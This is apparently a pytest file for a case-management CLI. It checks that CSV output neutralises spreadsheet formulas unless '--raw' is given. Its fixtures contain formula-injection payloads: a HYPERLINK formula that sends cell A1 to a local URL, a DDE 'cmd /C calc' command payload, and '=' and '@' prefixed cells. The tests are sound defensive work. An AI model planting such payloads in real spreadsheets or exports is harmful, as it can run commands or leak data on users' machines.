"""CSV for people holds nothing that a spreadsheet would calculate; `--raw` gives the text as it is, for machines."""

import csv
import io
from itertools import chain

import pytest

from ehcp_flow.formulas import disarmed, is_formula
from ehcp_flow.readers import read_cases
from ehcp_flow.store import Store
from ehcp_flow.store.imports import import_file
from tests.cli.running import invoke, rows_of
from tests.cli.test_outputs import PARAMS, named

LINK = '=HYPERLINK("http://127.0.0.1/?"&A1,"see note")'
CASE = "=1+1"
WORKER = '-1+cmd|" /C calc"!A0'
HELD = f"""\
case_id,event,on,party,outcome,until,authority,reason,=caseworker
{CASE},request_received,2026-03-02,parent,,,885,,{{worker}}
{CASE},assessment_agreed,2026-05-01,,,,885,,{{worker}}
{CASE},advice_requested,2026-05-02,medical,,,885,,{{worker}}
{CASE},exception_recorded,2026-03-20,,exceptional_circumstances,2026-04-20,885,{{link}},{{worker}}
{CASE},exception_recorded,2026-01-05,,exceptional_circumstances,2026-01-09,885,{{link}},{{worker}}
@b,request_received,2024-01-08,parent,,,886,,
@b,appeal_registered,2024-02-08,,,,886,"@see; =1",
"""
SOURCE = HELD.format(link='"' + LINK.replace('"', '""') + '"', worker='"' + WORKER.replace('"', '""') + '"')

# Each prints text that came from outside; the words that stand in it are looked for in what is raw.
DOORS = {
    ("check",): [CASE],
    ("check", "--explain"): [CASE, LINK],
    ("breaches",): ["@b"],
    ("breaches", "--register", "exceptions"): [CASE, LINK],
    ("breaches", "--register", "findings"): [CASE],
    ("explain", "--case", CASE): [CASE, LINK],
    ("state",): [CASE],
    ("state", "--moves", "all"): [CASE],
    ("registers", "breaches"): ["@b"],
    ("registers", "exceptions"): [CASE, LINK],
    ("registers", "advice"): [CASE],
    ("registers", "findings"): [CASE],
    ("measures", "--year", "2026", "--by", "=caseworker"): [WORKER],
    ("measures", "--year", "2026", "--measure", "requests", "--explain"): [CASE],
    ("scorecard", "--plan", "{plan}", "--register", "reds"): [CASE],
    ("what-if", "--case", CASE, "--event", "request_withdrawn", "--on", "2026-05-20"): [CASE],
}
PLAN = """
[[measure]]
id = "decided"
figure = "request_outcome_six_weeks_pc"
over = 3
targets = [{by = 2027-01-01, value = 100}]
"""
# What these print in CSV holds no text from outside.
OWN_WORDS = {"version", "import", "record", "db upgrade", "db check", "db stats"}
# Facts, to be read back as they are.
FACTS = {"convert", "export", "sen2 export", "sen2 import", "synth"}


def cells(text: str) -> list[str]:
    return list(chain.from_iterable(csv.reader(io.StringIO(text, newline=""))))


@pytest.fixture
def sheet(tmp_path):
    path = tmp_path / "cases.csv"
    path.write_text(SOURCE, "utf-8", newline="")
    return path


def test_every_command_that_prints_csv_has_it_raw_too():
    with_format = {words for words, param in PARAMS if named(param) == "--format"}
    assert with_format == {words for words, param in PARAMS if named(param) == "--raw"} | OWN_WORDS | FACTS
    assert {words[0] for words in DOORS} <= with_format


@pytest.mark.parametrize("words", DOORS, ids=" ".join)
def test_no_cell_is_a_formula_unless_it_is_asked_for_raw(words, sheet):
    plan = sheet.with_name("plan.toml")
    plan.write_text(PLAN)
    call = (words[0], sheet, *(word.format(plan=plan) for word in words[1:]))
    as_of = () if words[0] == "what-if" else ("--as-of", "2026-06-30")
    told = {}
    for raw in ((), ("--raw",)):
        done = invoke(*call, *as_of, "--format", "csv", *raw)
        assert done.exit_code == 0, done.stderr
        told[raw] = cells(done.stdout)
    assert [cell for cell in told[()] if is_formula(cell)] == []
    assert [disarmed(cell) for cell in told["--raw",]] == told[()]
    for text in DOORS[words]:
        assert any(text in cell for cell in told["--raw",]), text
    assert [cell for cell in told["--raw",] if is_formula(cell)]


@pytest.mark.parametrize("raw", [(), ("--raw",)])
@pytest.mark.parametrize("words", [("check",), ("breaches",), ("check", "--limit", "advice")])
def test_both_doors_print_the_same_bytes(words, raw, sheet):
    told = {
        door: invoke(words[0], sheet, *words[1:], "--as-of", "2026-06-30", "--format", "csv", *raw, door=door)
        for door in ("one", "many")
    }
    assert told["one"].stdout_bytes == told["many"].stdout_bytes
    assert told["one"].stdout.count("\n") > 1


def test_json_and_lines_are_as_they_are(sheet):
    for form in ("json", "jsonl"):
        done = invoke("check", sheet, "--as-of", "2026-06-30", "--format", form)
        assert CASE in {row["case_id"] for row in rows_of(done.stdout, form)}


def test_findings_of_a_store_s_verification(tmp_path):
    url, other, heads = f"sqlite:///{tmp_path}/cases.db", f"sqlite:///{tmp_path}/other.db", tmp_path / "heads.jsonl"
    invoke("import", "-", "--store", url, stdin=SOURCE)
    invoke("import", "-", "--store", other, stdin=f"{SOURCE}=gone(),request_received,2026-03-02,parent,,,885,,\n")
    invoke("db", "verify", "--store", other, "--write-anchor", heads)
    for raw, name in (((), "'=gone()"), (("--raw",), "=gone()")):
        done = invoke("db", "verify", "--store", url, "--anchor", heads, "--format", "csv", *raw)
        assert name in [row["case_id"] for row in rows_of(done.stdout, "csv")]


def test_an_export_is_read_back_as_it_was(sheet, tmp_path):
    """A file of facts is for machines: disarmed, it would come back as other facts."""
    url = f"sqlite:///{tmp_path}/cases.db"
    assert invoke("import", sheet, "--store", url).exit_code == 0
    assert invoke("export", "--store", url, "--output", tmp_path / "facts.csv").exit_code == 0
    told = {case_id: [fact.content for fact in case] for case_id, case in read_cases(sheet).items()}
    back = {case_id: [fact.content for fact in case] for case_id, case in read_cases(tmp_path / "facts.csv").items()}
    assert back == told
    assert LINK in {fact.reason for fact in read_cases(tmp_path / "facts.csv")[CASE]}
    with Store.open("memory:") as other:
        assert import_file(other, tmp_path / "facts.csv").refused == 0


def test_refused_rows_are_disarmed(tmp_path):
    (tmp_path / "cases.csv").write_text(f'case_id,event,on\n{CASE},"=x()",2026-03-02\n', "utf-8")
    url = f"sqlite:///{tmp_path}/cases.db"
    invoke("import", tmp_path / "cases.csv", "--store", url, "--refused", tmp_path / "refused.csv")
    told = cells((tmp_path / "refused.csv").read_text("utf-8"))
    assert [cell for cell in told if is_formula(cell)] == []
    assert "'=x()" in told
